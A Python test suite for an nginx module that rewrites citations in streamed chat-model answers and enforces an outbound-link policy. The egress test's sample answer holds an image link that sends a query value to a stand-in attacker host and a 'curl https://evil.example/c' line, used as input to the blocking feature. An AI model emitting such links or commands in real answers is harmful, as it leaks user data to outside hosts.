"""nginx_module_test.py BINARY MODULE: nginx with the module rewrites like the proxy and otherwise behaves like nginx."""

import asyncio
import contextlib
import gzip
import os
import re
import shutil
import signal
import subprocess
import sys
import unittest

from peers import (HEAD, Answer, Broken, Model, Peers, answer_events, event, fetch, free_port, listens, log_of,
                   patiently, program, skip_without, until, wait_until)

BINARY, MODULE = (os.path.abspath(path) for path in sys.argv[1:3])
EVENTS = answer_events("w", 60)
STREAM = "".join(EVENTS).encode()
UNKNOWN = "".join(f'data: {{"what":{i}}}\n\n' for i in range(100)).encode()
JSON = b'{"object":"chat.completion","choices":[{"index":0,"message":{"role":"assistant","content":"Up [R.pdf](f-1)."}}]}'

PAGE = os.sysconf("SC_PAGESIZE")  # what nginx reads at a time: the default of proxy_buffer_size
CHUNKED = b"HTTP/1.1 200 OK\r\nContent-Type: text/event-stream\r\nTransfer-Encoding: chunked\r\n\r\n"

HTTP = """
  log_format counts '$uri citations=$citestream_citations unresolved=$citestream_unresolved';
  access_log {folder}/PORT.access counts;
  proxy_buffering off;
  proxy_http_version 1.1;
  {http}
  server {{
    listen 127.0.0.1:PORT;
    {listen}
    {server}
    location / {{ proxy_pass http://127.0.0.1:{backend}; }}
    location /buffered/ {{ proxy_buffering on; proxy_pass http://127.0.0.1:{backend}/; }}
    location /numeric/ {{ citestream_style numeric; proxy_pass http://127.0.0.1:{backend}/; }}
    location /strip/ {{ citestream_style strip; proxy_pass http://127.0.0.1:{backend}/; }}
    location /marked/ {{ citestream_markers numeric ref; proxy_pass http://127.0.0.1:{backend}/; }}
    location /utf8/ {{ citestream_offsets utf8; proxy_pass http://127.0.0.1:{backend}/; }}
    location /points/ {{ citestream_offsets codepoint; proxy_pass http://127.0.0.1:{backend}/; }}
    location /guarded/ {{ citestream_egress enforce; citestream_egress_allow https://a.example https://*.good.example;
      proxy_pass http://127.0.0.1:{backend}/; }}
    location /exact/ {{ citestream_egress enforce; citestream_egress_code exact; proxy_pass http://127.0.0.1:{backend}/; }}
    location /reported/ {{ citestream_egress report; proxy_pass http://127.0.0.1:{backend}/; }}
    location /checked/ {{ citestream_check report; proxy_pass http://127.0.0.1:{backend}/; }}
    location /unresolved/ {{ citestream_style numeric; citestream_unresolved mark; proxy_pass http://127.0.0.1:{backend}/; }}
    location /repaired/ {{ citestream_repair on; proxy_pass http://127.0.0.1:{backend}/; }}
    location /packed/ {{ gzip on; gzip_types text/event-stream; proxy_pass http://127.0.0.1:{backend}/; }}
    location /off/ {{ citestream off; proxy_pass http://127.0.0.1:{backend}/; }}
    location /events/ {{ citestream_types text/event-stream; proxy_pass http://127.0.0.1:{backend}/; }}
    location /quick/ {{ proxy_read_timeout 500ms; proxy_pass http://127.0.0.1:{backend}/; }}
    location /redirected/ {{ citestream off; error_page 418 = @numeric; return 418; }}
    location @numeric {{ citestream_style numeric; rewrite .* /v1/chat break; proxy_pass http://127.0.0.1:{backend}; }}
    location /added {{ citestream off; addition_types *; add_after_body /v1/chat; proxy_pass http://127.0.0.1:{backend}/; }}
  }}
"""


class NginxPeers(Peers):
    def module_nginx(self, backend, listen="", master="on", before=(), http="", server="citestream on;"):
        """Starts nginx with the module in front of the port `backend`, with additional lines in `http` and `server`.

        Returns its process, with its port and the log of requests."""
        lines = HTTP.format(folder=self.folder, backend=backend, listen=listen, http=http, server=server)
        process = self.start_nginx(lines, f"load_module {MODULE}; master_process {master};", before)
        wait_until(lambda: listens(process.port), process)
        process.access = os.path.join(self.folder, f"{process.port}.access")
        return process


@contextlib.asynccontextmanager
async def upstream(head, body, end=True):
    """Answers any request with the fields `head` and with `body`, then closes. Yields its port."""
    async def serve(reader, writer):
        with contextlib.suppress(ConnectionError, asyncio.IncompleteReadError):
            asked = await reader.readuntil(b"\r\n\r\n")
            if found := re.search(rb"content-length: (\d+)", asked, re.I):
                await reader.readexactly(int(found[1]))
            writer.write(b"HTTP/1.1 200 OK\r\nConnection: close\r\n" + head + b"\r\n\r\n")
            writer.write(body if not asked.startswith(b"HEAD ") else b"")
            await writer.drain()
            if not end:
                await reader.read()
        writer.close()

    server = await asyncio.start_server(serve, "127.0.0.1", 0)
    async with server:
        yield server.sockets[0].getsockname()[1]


def chunked(body):
    return b"%x\r\n" % len(body) + body + b"\r\n"


async def run(*command):
    process = await asyncio.create_subprocess_exec(*command, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    out, said = await patiently(process.communicate())
    return process.returncode, out, said.decode()


async def logged(nginx, *lines):
    """Waits until the log of requests has these lines."""
    def written():
        with open(nginx.access, encoding="utf-8") as file:
            return file.read().splitlines()
    await until("the log lines", lambda: len(written()) >= len(lines))
    return written()


class Module(unittest.IsolatedAsyncioTestCase):
    async def asyncSetUp(self):
        asyncio.get_running_loop().set_debug(False)

    async def test_the_bytes_equal_those_of_the_proxy_for_every_cut(self):
        for options in (["--pace", "1"], ["--pace", "0"], ["--pace", "0", "--split", "7"], ["--pace", "0", "--split", "1000"]):
            with self.subTest(options), NginxPeers(BINARY) as peers:
                model = peers.replay({"a": "".join(answer_events("a", 200)), "b": STREAM.decode()}, *options)
                nginx = peers.module_nginx(model)
                for style, prefix in (("strip", ""), ("numeric", "/numeric"), ("strip", "/buffered")):
                    ours = peers.citestream(model, "--style", style)
                    for name in ("a", "b"):
                        expected = await patiently(fetch(ours.port, name))
                        self.assertIn(b'"status":"resolved"', expected)
                        self.assertEqual(await patiently(fetch(nginx.port, name, prefix + "/v1/chat")), expected)

    async def check_like_filter(self, stream, locations):
        """Compares the outputs of locations, by prefix, with those of `citestream filter`, and returns them."""
        with NginxPeers(BINARY) as peers:
            nginx = peers.module_nginx(peers.replay({"answer": stream}, "--pace", "0"))
            file = peers.write("stream.sse", stream)
            outputs = {}
            for prefix, options in locations.items():
                with self.subTest(prefix):
                    code, outputs[prefix], said = await run(BINARY, "filter", *options, file)
                    self.assertEqual(code, 0, said)
                    self.assertEqual(await patiently(fetch(nginx.port, path=prefix + "/v1/chat")), outputs[prefix])
            self.assertEqual(len(set(outputs.values())), len(locations))  # each option changes the output
        return outputs

    async def test_markers_and_offsets_equal_those_of_filter_with_the_same_options(self):
        tokens = ["Caf\u00e9 \U0001f600 grew [1", "] and [R.pdf](f-1) [REF|d_1", "23]", "."]
        files = [{"text": "It grew.", "fileId": "f-1", "cite": "f-1"}]
        stream = "".join([*map(event, tokens), event(None, "stop", files), "data: [DONE]\n\n"])
        await self.check_like_filter(stream, {"": [], "/marked": ["--markers", "numeric,ref"], "/utf8": ["--offsets", "utf8"],
                                              "/points": ["--offsets", "codepoint"]})

    async def test_egress_is_that_of_filter_with_the_same_options(self):
        tokens = ["See ![x](https://evil.example/?q=S) ", "and [a](https://a.example/p), [b](https://x.good.example/p)",
                  " or `curl https://evil.example/c`, [R.p", "df](f-1)."]
        files = [{"text": "It grew.", "fileId": "f-1", "cite": "f-1"}]
        stream = "".join([*map(event, tokens), event(None, "stop", files), "data: [DONE]\n\n"])
        allowed = ["--egress-allow", "https://a.example", "--egress-allow", "https://*.good.example"]
        await self.check_like_filter(stream, {"": [], "/guarded": ["--egress", "enforce", *allowed],
                                              "/exact": ["--egress", "enforce", "--egress-code", "exact"],
                                              "/reported": ["--egress", "report"]})

    async def test_checks_of_citations_are_those_of_filter_with_the_same_options(self):
        files = [{"text": "Sales rose by 20% in May.", "fileId": "file-00017", "cite": "file-00017"}]
        tokens = ["fell by 20% in May [R.pdf](file-00017)", ", and [X](gone) so did costs [R.pdf](file-0001", "8)."]
        stream = "".join([event("Sales ", None, files), *map(event, tokens), event(None, "stop"), "data: [DONE]\n\n"])
        outputs = await self.check_like_filter(stream, {"/checked": ["--check", "report"],
                                                        "/unresolved": ["--style", "numeric", "--unresolved", "mark"],
                                                        "/repaired": ["--repair"]})
        for prefix, expected in (("/checked", b'"verdict":"contradicted"'), ("/unresolved", b"[?]"),
                                 ("/repaired", b'"match":"repaired"')):
            self.assertIn(expected, outputs[prefix])

    async def test_directives_in_http_are_inherited_unless_overridden(self):
        with NginxPeers(BINARY) as peers:
            model = peers.replay({"answer": STREAM.decode()}, "--pace", "0")
            file = peers.write("stream.sse", STREAM.decode())
            styles = {}
            for style in ("strip", "numeric", "label"):
                code, styles[style], said = await run(BINARY, "filter", "--style", style, file)
                self.assertEqual(code, 0, said)
            self.assertEqual(len(set(styles.values())), 3)
            http = "citestream on; citestream_style numeric;"
            for server, inherited in (("", "numeric"), ("citestream_style label;", "label")):
                nginx = peers.module_nginx(model, http=http, server=server)
                for prefix, expected in (("", styles[inherited]), ("/strip", styles["strip"]), ("/numeric", styles["numeric"]),
                                         ("/off", STREAM)):
                    with self.subTest(server=server, prefix=prefix):
                        self.assertEqual(await patiently(fetch(nginx.port, path=prefix + "/v1/chat")), expected)

    async def test_each_event_arrives_before_the_next_is_sent(self):
        async with Model() as model:
            with NginxPeers(BINARY) as peers:
                asking = asyncio.ensure_future(Answer.ask(peers.module_nginx(model.port).port))
                _, writer = await patiently(model.connections.get())
                writer.write(EVENTS[0][:9].encode())  # only the head can be sent now
                answer = await patiently(asking)
                self.addCleanup(answer.leave)
                writer.write(EVENTS[0][9:].encode())
                for each in EVENTS[1:]:
                    self.assertIsNotNone(await patiently(answer.next_event()))
                    writer.write(each.encode())
                writer.close()
                await patiently(answer.whole())
                self.assertEqual(answer.body.count(b'"status":"resolved"'), 3)

    async def test_events_that_arrive_together_are_sent_in_few_writes(self):
        async with Model(HEAD) as model:
            with NginxPeers(BINARY) as peers:
                asking = asyncio.ensure_future(Answer.ask(peers.module_nginx(model.port).port))
                _, writer = await patiently(model.connections.get())
                writer.write("".join([*(event(f" {i}") for i in range(400)), event(None, "stop"), "data: [DONE]\n\n"]).encode())
                answer = await patiently(asking)
                largest = 0
                writer.close()
                while True:
                    before = len(answer.body)
                    if not await patiently(answer.more()):
                        break
                    largest = max(largest, len(answer.body) - before)  # nginx makes a chunk of each write
                self.assertGreater(largest, 2 * PAGE)  # it reads a page at a time

    async def test_output_is_sent_however_the_input_fills_the_buffer_of_nginx(self):
        # Without an end, with a partial chunk, which gives no output, and with a complete one.
        tails = (b"", b"5", b"5\r", b"5\r\n", b"5\r\n:", b"5\r\n: x\n\n", b"5\r\n: x\n\n\r")
        async with Model(b"") as model:
            with NginxPeers(BINARY) as peers:
                nginx = peers.module_nginx(model.port)
                for tail in tails:
                    for size in (pages * PAGE + more for pages in (1, 2, 5) for more in {-1, 0, 1, len(tail)}):
                        for first in (b"", event("first").encode()):
                            with self.subTest(size=size, tail=tail, first=first):
                                await self.leaves_at_once(model, nginx, size, tail, first)

    async def leaves_at_once(self, model, nginx, size, tail, first):
        """The upstream sends this many bytes in one write, the last of them `tail`, and then nothing. They include the head,
        unless it was sent before with an event `first`."""
        asking = asyncio.ensure_future(Answer.ask(nginx.port))
        _, writer = await patiently(model.connections.get())
        wire, count = CHUNKED, 0
        if first:
            writer.write(CHUNKED + chunked(first))
            answer = await patiently(asking)
            self.assertIsNotNone(await patiently(answer.next_event()))
            wire = b""
        while len(wire + tail) + 2000 < size:
            wire += chunked(event(f" {count}").encode())
            count += 1
        missing = size - len(wire + tail) - len("xxx\r\n" ":" "\n\n" "\r\n")
        wire += chunked(b":" + missing * b"x" + b"\n\n")
        self.assertEqual(len(wire + tail), size)
        writer.write(wire + tail)
        answer = await patiently(asking)
        self.addCleanup(answer.leave)
        for _ in range(count + 1):
            self.assertIsNotNone(await patiently(answer.next_event()))
        end = [b": x\n\n", event(None, "stop").encode(), b"data: [DONE]\n\n"]
        writer.write(b"".join(map(chunked, end))[len(tail):] + b"0\r\n\r\n")
        writer.close()
        await patiently(answer.whole())
        self.assertTrue(answer.body.endswith(b"".join(end)), answer.body[-1000:])

    async def test_the_output_is_compressed_if_nginx_is_configured_to(self):
        with NginxPeers(BINARY) as peers:
            model = peers.replay({"answer": STREAM.decode()}, "--pace", "1")
            expected = await patiently(fetch(peers.citestream(model).port))
            url = f"http://127.0.0.1:{peers.module_nginx(model).port}/packed/v1/chat"
            ask = ["curl", "--silent", "-H", "Accept-Encoding: gzip", "-d", '{"stream":true,"model":"answer"}', url]
            code, out, _ = await run(*ask)
            self.assertEqual((code, gzip.decompress(out)), (0, expected))

    async def test_citations_are_counted_for_the_log(self):
        missing = "".join([*EVENTS[:-2], EVENTS[-1]])
        with NginxPeers(BINARY) as peers:
            nginx = peers.module_nginx(peers.replay({"answer": STREAM.decode(), "missing": missing}, "--pace", "0"))
            await patiently(fetch(nginx.port))
            await patiently(fetch(nginx.port, "answer", "/off/v1/chat"))
            with contextlib.suppress(Broken):
                await patiently(fetch(nginx.port, "missing"))
            expected = ["/v1/chat citations=3 unresolved=0", "/off/v1/chat citations=- unresolved=-",
                        "/v1/chat citations=3 unresolved=3"]
            self.assertEqual(await logged(nginx, *expected), expected)

    async def test_http_2_and_tls(self):
        with NginxPeers(BINARY) as peers:
            key, cert = (os.path.join(peers.folder, name) for name in ("key.pem", "cert.pem"))
            code, _, said = await run("openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256",
                                      "-nodes", "-subj", "/CN=a", "-keyout", key, "-out", cert)
            self.assertEqual(code, 0, said)
            tls = free_port()
            listen = f"listen 127.0.0.1:{tls} ssl http2; ssl_certificate {cert}; ssl_certificate_key {key};"
            recordings = {"answer": STREAM.decode(), "long": "".join(answer_events("l", 2000))}
            model = peers.replay(recordings, "--pace", "0", "--split", "300")
            dying = peers.replay(recordings, "--pace", "0", "--die-after", "900")
            ours = peers.citestream(model)
            ask = ["curl", "--silent", "--insecure", "--no-buffer", "--write-out", "%{stderr}%{http_version}"]
            url = f"https://127.0.0.1:{tls}/v1/chat"
            front = peers.module_nginx(model, listen)
            for name in recordings:
                expected = await patiently(fetch(ours.port, name))
                body = '{"stream":true,"model":"%s"}' % name
                self.assertEqual(await run(*ask, "--http2", url, "-d", body), (0, expected, "2"))
                self.assertEqual(await run(*ask, "--http1.1", url, "-d", body), (0, expected, "1.1"))
            front.terminate()
            front.wait()
            peers.module_nginx(dying, listen)
            code, out, _ = await run(*ask, "--http2", url, "-d", '{"stream":true,"model":"answer"}')
            self.assertEqual(code, 92)  # the stream was not closed cleanly
            self.assertIn(b'event: error\ndata: {"error":', out)

    async def test_compressed_answers_and_disabled_locations_pass_unchanged(self):
        packed = gzip.compress(STREAM)
        types = b"Content-Type: text/event-stream\r\nETag: \"x\"\r\nAccept-Ranges: bytes\r\nContent-Length: %d"
        for prefix, head, body in (("", types % len(packed) + b"\r\nContent-Encoding: gzip", packed),
                                   ("/off", types % len(STREAM), STREAM),
                                   ("/events", b"Content-Type: application/json\r\nContent-Length: %d" % len(JSON), JSON),
                                   ("", b"Content-Type: text/plain\r\nETag: \"x\"\r\nContent-Length: %d" % len(STREAM), STREAM)):
            with self.subTest(head):
                async with upstream(head, body) as port:
                    with NginxPeers(BINARY) as peers:
                        answer = await Answer.ask(peers.module_nginx(port).port, path=prefix + "/v1/chat")
                        self.assertEqual(await patiently(answer.whole()), body)
                        self.assertEqual(answer.fields["content-length"], str(len(body)))
                        for line in head.decode().split("\r\n"):
                            name, value = line.split(": ")
                            self.assertEqual(answer.fields[name.lower()], value)

    async def test_a_rewritten_answer_has_no_fields_about_exact_bytes(self):
        fields = b"\r\nETag: \"x\"\r\nAccept-Ranges: bytes\r\nContent-MD5: eA==\r\nX-Other: here\r\nContent-Length: %d"
        for kind, body in ((b"text/event-stream", STREAM), (b"application/json; charset=utf-8", JSON)):
            async with upstream(b"Content-Type: " + kind + fields % len(body), body) as port:
                with self.subTest(kind), NginxPeers(BINARY) as peers:
                    nginx, ours = peers.module_nginx(port), peers.citestream(port)
                    answer = await Answer.ask(nginx.port)
                    whole = await patiently(answer.whole())
                    self.assertEqual(whole, await patiently(fetch(ours.port)))
                    self.assertNotEqual(whole, body)
                    self.assertTrue({"etag", "accept-ranges", "content-md5", "content-length"}.isdisjoint(answer.fields))
                    self.assertEqual(answer.fields["x-other"], "here")
                    code, out, _ = await run("curl", "--silent", "--head", f"http://127.0.0.1:{nginx.port}/")
                    self.assertEqual(code, 0)
                    self.assertEqual(b"content-length:" in out.lower(), kind != b"text/event-stream")

    async def test_an_upstream_that_fails_is_an_error(self):
        for body, told in ((STREAM[:900], True), (UNKNOWN[:900], False)):
            for head, sent in ((b"Transfer-Encoding: chunked", chunked(body)), (b"Content-Length: 9999", body),
                               (b"X-Until: close", body)):
                async with upstream(b"Content-Type: text/event-stream\r\n" + head, sent) as port:
                    with NginxPeers(BINARY) as peers:
                        nginx = peers.module_nginx(port)
                        for path in ("/v1/chat", "/buffered/v1/chat"):
                            with self.subTest(head=head, told=told, path=path):
                                answer = await Answer.ask(nginx.port, path=path)
                                with contextlib.nullcontext() if not told and b"Until" in head else self.assertRaises(Broken):
                                    await patiently(answer.whole())
                                self.assertEqual(b"event: error\n" in answer.body, told)
                                self.assertEqual(b'"code":"upstream_' in answer.body, told)

    async def test_data_buffered_by_nginx_is_not_an_upstream_failure(self):
        # More than fits into all sockets: nginx has it in a file when the upstream ends, before the client reads it.
        body = b"".join(b":%d %s\n\n" % (i, 16384 * b"x") for i in range(1200)) + STREAM
        async with Model(b"") as model:
            with NginxPeers(BINARY) as peers:
                nginx = peers.module_nginx(model.port)
                asking = asyncio.ensure_future(Answer.ask(nginx.port, path="/buffered/v1/chat"))
                reader, writer = await patiently(model.connections.get())
                writer.write(CHUNKED + chunked(body) + b"0\r\n\r\n")
                self.assertEqual(await patiently(reader.read()), b"")  # nginx has closed the upstream connection
                answer = await patiently(asking)
                await patiently(answer.whole())
                self.assertNotIn(b"event: error", answer.body)
                self.assertIn(b'"status":"resolved"', answer.body)
                self.assertTrue(answer.body.endswith(b"data: [DONE]\n\n"))

    async def test_an_upstream_that_stops_sending_is_an_error(self):
        body = chunked(STREAM[:900])
        async with upstream(b"Content-Type: text/event-stream\r\nTransfer-Encoding: chunked", body, end=False) as port:
            with NginxPeers(BINARY) as peers:
                nginx = peers.module_nginx(port)
                for _ in range(10):  # on a busy machine it may seem silent before the head too
                    answer = await Answer.ask(nginx.port, path="/quick/v1/chat")
                    if answer.status != 504:
                        break
                with self.assertRaises(Broken):
                    await patiently(answer.whole())
                self.assertIn(b'"code":"upstream_timeout"', answer.body)

    async def test_an_answer_without_a_body_passes(self):
        async with upstream(b"Content-Type: application/json\r\nContent-Length: 0", b"") as port:
            with NginxPeers(BINARY) as peers:
                nginx = peers.module_nginx(port)
                answer = await Answer.ask(nginx.port, path="/v1/chat")
                await patiently(answer.whole())
                self.assertEqual((answer.status, answer.body), (200, b""))

    async def test_the_answering_location_decides_and_subrequests_are_unchanged(self):
        head = b"Content-Type: text/event-stream"
        async with upstream(head, STREAM) as port:
            with NginxPeers(BINARY) as peers:
                nginx = peers.module_nginx(port)
                numeric = await patiently(fetch(nginx.port, path="/numeric/v1/chat"))
                self.assertEqual(await patiently(fetch(nginx.port, path="/redirected/v1/chat")), numeric)
                self.assertEqual(await patiently(fetch(nginx.port, path="/added")), STREAM * 2)

    async def test_an_invalid_option_is_reported_with_its_line(self):
        with NginxPeers(BINARY) as peers:
            for line, said in (("citestream_style loud;", "citestream_style is not one of auto, strip"),
                               ("citestream_markers link what;", "citestream_markers is not one of"),
                               ("citestream_offsets utf7;", "citestream_offsets is not one of utf8, utf16, codepoint"),
                               ("citestream_check maybe;", "citestream_check is not one of off, report"),
                               ("citestream_repair maybe;", "citestream_repair is not"),
                               ("citestream_egress_allow evil;", "citestream_egress_allow is not one of https://host"),
                               ("citestream_style keep; citestream_style keep;", '"citestream_style" directive is duplicate')):
                path = peers.write("bad.conf", f"load_module {MODULE};\npid {peers.folder}/p; events {{}} http {{\n{line}\n}}")
                code, _, text = await run(program("nginx"), "-t", "-c", path, "-e", "stderr")
                self.assertNotEqual(code, 0)
                self.assertIn(said, text)
                self.assertIn("bad.conf:3", text)

    async def test_options_that_exclude_each_other_are_reported_where_the_module_is_on(self):
        rule = "citestream_not_found (0.6) must not exceed supported (0.5)"
        with NginxPeers(BINARY) as peers:
            for http, location, said in (("citestream on;", "citestream_supported 0.5; citestream_not_found 0.6;", rule),
                                         ("citestream_not_found 0.6;", "citestream on; citestream_supported 0.5;", rule),
                                         ("citestream_not_found 0.6;", "citestream_supported 0.5;", "test is successful"),
                                         ("citestream on;", "citestream_supported 0.6;", "test is successful")):
                path = peers.write("both.conf", f"load_module {MODULE};\npid {peers.folder}/p; events {{}} "
                                   f"http {{ {http} server {{ location / {{ {location} }} }} }}")
                with self.subTest(http + location):
                    code, _, text = await run(program("nginx"), "-t", "-c", path, "-e", "stderr")
                    self.assertIn(said, text)
                    self.assertEqual(code != 0, said == rule)

    async def leave_and_reload(self, nginx, model, clients):
        """Clients that disconnect at every position of a stream, and a reload during a stream."""
        for i in range(clients):
            asking = asyncio.ensure_future(Answer.ask(nginx.port))
            reader, writer = await asyncio.wait_for(model.connections.get(), 120)
            writer.write("".join(EVENTS[:1 + i % 60]).encode())
            answer = await asyncio.wait_for(asking, 120)
            await asyncio.wait_for(answer.next_event(), 120)
            answer.leave()
            self.assertEqual(await asyncio.wait_for(reader.read(), 120), b"")
            writer.close()
        asking = asyncio.ensure_future(Answer.ask(nginx.port))
        _, writer = await asyncio.wait_for(model.connections.get(), 120)
        writer.write(EVENTS[0].encode())
        answer = await asyncio.wait_for(asking, 120)
        await asyncio.wait_for(answer.next_event(), 120)
        before = children(nginx)
        nginx.send_signal(signal.SIGHUP)
        await until("the reload", lambda: "reconfiguring" in log_of(nginx) and (not before or children(nginx) - before))
        for each in EVENTS[1:]:
            writer.write(each.encode())
        writer.close()
        self.assertEqual((await asyncio.wait_for(answer.whole(), 120)).count(b'"status":"resolved"'), 3)
        if before:
            await until("the old workers to end", lambda: not children(nginx) & before)

    async def test_disconnects_and_a_reload_leak_nothing(self):
        async with Model() as model:
            with NginxPeers(BINARY) as peers:
                nginx = peers.module_nginx(model.port)
                await self.leave_and_reload(nginx, model, 20)
                nginx.send_signal(signal.SIGQUIT)
                await until("nginx to end", lambda: nginx.poll() is not None)
                self.assertNotIn("[alert]", log_of(nginx))

    @unittest.skipUnless(shutil.which("valgrind"), "valgrind is not installed")
    async def test_valgrind_finds_nothing_after_a_hundred_disconnects(self):
        async with Model() as model:
            with NginxPeers(BINARY) as peers:
                before = ["valgrind", "--leak-check=full", "--errors-for-leak-kinds=definite"]
                nginx = peers.module_nginx(model.port, "", "off", before)
                await self.leave_and_reload(nginx, model, 100)
                # nginx answers this after it has processed all disconnects. They may be processed too late for the exit.
                asking = asyncio.ensure_future(fetch(nginx.port, path="/off/v1/chat"))
                _, writer = await asyncio.wait_for(model.connections.get(), 120)
                writer.close()
                await asyncio.wait_for(asking, 120)
                nginx.send_signal(signal.SIGQUIT)
                await until("nginx to end", lambda: nginx.poll() is not None)
                said = log_of(nginx)
                # As a single process, nginx itself frees neither its old configuration nor its environment.
                self.assertRegex(said, "ERROR SUMMARY: ")
                self.assertNotRegex(said, "Invalid |uninitialised|citestream_session|citestream_workspace")
                for record in re.split(r"(?m)^==\d+== $", said):
                    if "definitely lost in" in record:
                        self.assertNotRegex(record, "citestream|capi")


def children(process):
    with open(f"/proc/{process.pid}/task/{process.pid}/children", encoding="ascii") as file:
        return {int(each) for each in file.read().split()}


if __name__ == "__main__":
    skip_without("nginx", "curl", "openssl")
    unittest.main(argv=[sys.argv[0], *sys.argv[3:]])
